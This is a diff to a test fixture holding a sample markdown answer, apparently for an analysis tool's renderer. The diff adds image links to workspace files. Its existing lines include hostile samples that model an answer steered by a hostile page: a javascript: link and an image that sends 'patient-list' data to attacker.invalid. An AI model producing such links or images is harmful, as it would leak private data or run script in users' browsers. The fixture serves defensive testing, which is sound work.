@@ -37,7 +37,7 @@ CHART_SIZE = (240, 160)
 #: The ``markdown`` command's answer: what an analyst's answer holds (a heading, a table with
 #: a right-aligned column, lists, emphasis, code) and what an answer steered by a hostile web
 #: page or file might hold (raw HTML, a javascript: link, an image whose address carries data);
-#: and a link to a workspace file by relative path.
+#: and a link and images naming workspace files by relative path (one of them missing).
 MARKDOWN_ANSWER = """## Top prescribers
 
 The **top prescriber** wrote *58* claims; see `humira_ca.csv`.
@@ -54,6 +54,10 @@ The **top prescriber** wrote *58* claims; see `humira_ca.csv`.
 - [the report](https://example.org/report)
 - [click me](javascript:window.__pwned=3)
 - [the chart](charts/top10.png)
+
+![Top 10 chart](charts/top10.png)
+
+![a chart never made](charts/none.png)
 - ![secret](https://attacker.invalid/collect?d=patient-list)
 
 ```sql
